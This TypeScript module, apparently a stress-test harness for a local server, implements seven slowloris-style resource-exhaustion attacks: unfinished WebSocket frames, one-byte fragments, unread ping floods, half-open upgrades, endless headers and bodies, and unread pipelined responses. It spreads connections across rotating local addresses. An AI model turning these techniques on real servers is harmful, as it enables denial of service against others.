import { randomBytes } from 'node:crypto';
import { connect, type Socket } from 'node:net';

interface Target {
  readonly port: number;
  /** Sockets that an attack holds open at once; closed ones are opened again. */
  readonly sockets: number;
  /** Number of local addresses (127.0.1.1 and on) that they come from. */
  readonly addresses: number;
}

/** What one socket of an attack sends once it is connected; resolves when there is nothing more to send. */
type Send = (socket: Socket) => Promise<void> | void;

const mebibyte = 1024 * 1024;
/** Delay before a disconnected sender returns. */
const againMs = 1_000;

/** Keeps as many sockets open as `target` says, each doing `send`, until the returned function is called. */
export function attack(target: Target, send: Send): () => void {
  const open = new Set<Socket>();
  let isOver = false;
  const begin = (at: number) => {
    if (isOver) return;
    const localAddress = `127.0.1.${1 + (at % target.addresses)}`;
    const socket = connect({ port: target.port, host: '127.0.0.1', localAddress });
    open.add(socket);
    socket.on('error', () => {});
    socket.once('connect', () => Promise.resolve(send(socket)).catch(() => {}));
    socket.once('close', () => {
      open.delete(socket);
      setTimeout(() => begin(at), againMs);
    });
  };
  for (let at = 0; at < target.sockets; at += 1) begin(at);
  return () => {
    isOver = true;
    for (const socket of open) socket.destroy();
  };
}

const upgrade = (path: string) =>
  [
    `GET ${path} HTTP/1.1`,
    'Host: localhost',
    'Connection: Upgrade',
    'Upgrade: websocket',
    'Sec-WebSocket-Version: 13',
    `Sec-WebSocket-Key: ${randomBytes(16).toString('base64')}`,
    '\r\n',
  ].join('\r\n');

const written = (socket: Socket, bytes: string | Uint8Array) =>
  new Promise<void>((resolve, reject) => socket.write(bytes, (error) => (error ? reject(error) : resolve())));
const answered = (socket: Socket) =>
  new Promise<void>((resolve, reject) => {
    socket.once('data', () => resolve());
    socket.once('close', () => reject(new Error('cut')));
  });

/** The head of a masked frame that declares a length of up to 65,535 or of more bytes. */
function frameHead(opcode: number, length: number, isLast = true): Buffer {
  const first = (isLast ? 0x80 : 0) | opcode;
  const mask = Buffer.alloc(4);
  if (length < 126) return Buffer.concat([Buffer.of(first, 0x80 | length), mask]);
  const size = Buffer.alloc(length < 65_536 ? 2 : 8);
  if (length < 65_536) size.writeUInt16BE(length);
  else size.writeBigUInt64BE(BigInt(length));
  return Buffer.concat([Buffer.of(first, 0x80 | (length < 65_536 ? 126 : 127)), size, mask]);
}

const filler = Buffer.alloc(64 * 1024);

/** A chat socket with a frame of 1 MiB of which the last byte never comes. */
const unfinishedFrame: Send = async (socket) => {
  socket.write(upgrade('/im/ws'));
  await answered(socket);
  await written(socket, frameHead(2, mebibyte));
  for (let sent = 0; sent < mebibyte - filler.length; sent += filler.length) await written(socket, filler);
  await written(socket, filler.subarray(1));
};

/** The same in fragments of one byte each, which cost the receiver far more than their bytes. */
const tinyFragments: Send = async (socket) => {
  socket.setNoDelay(true);
  socket.write(upgrade('/im/ws'));
  await answered(socket);
  const one = Buffer.concat([frameHead(0, 1, false), Buffer.of(1)]);
  await written(socket, Buffer.concat([frameHead(2, 1, false), Buffer.of(1)]));
  const many = Buffer.concat(Array.from({ length: 4_000 }, () => one));
  for (let round = 0; round < 4; round += 1) await written(socket, many);
};

/** Pings without end from a socket that reads no answer. */
const unreadPongs: Send = async (socket) => {
  socket.write(upgrade('/im/ws'));
  await answered(socket);
  socket.pause();
  const ping = Buffer.concat([frameHead(9, 125), filler.subarray(0, 125)]);
  const many = Buffer.concat(Array.from({ length: 500 }, () => ping));
  while (!socket.destroyed) await written(socket, many);
};

/** An upgrade that is refused, and a sender that never closes its side. */
const refusedUpgrade: Send = (socket) => {
  socket.write(upgrade('/ws/notification?userId=1&token=none'));
  socket.allowHalfOpen = true;
};

/** The head of a request with 15 KB of fields, and no end. */
const unfinishedHead: Send = async (socket) => {
  await written(
    socket,
    `GET /api/category/list HTTP/1.1\r\nHost: localhost\r\nX-Filler: ${'x'.repeat(15_000)}`,
  );
};

/** A JSON body of 256 KiB of which the last byte never comes. */
const unfinishedBody: Send = async (socket) => {
  const length = 256 * 1024;
  await written(
    socket,
    `POST /api/user/login HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: ${length}\r\n\r\n`,
  );
  await written(socket, Buffer.alloc(length - 1, 0x20));
};

/** Large answers that are not read, as many at once as a connection may request. */
const unreadAnswers: Send = async (socket) => {
  socket.pause();
  const one = (path: string) => `GET ${path} HTTP/1.1\r\nHost: localhost\r\n\r\n`;
  await written(socket, one('/api/docs') + one('/api/openapi.json').repeat(2));
};

/** The attacks of unknown senders, by name. */
export const kinds = {
  unfinishedFrame,
  tinyFragments,
  unreadPongs,
  refusedUpgrade,
  unfinishedHead,
  unfinishedBody,
  unreadAnswers,
} as const satisfies Record<string, Send>;
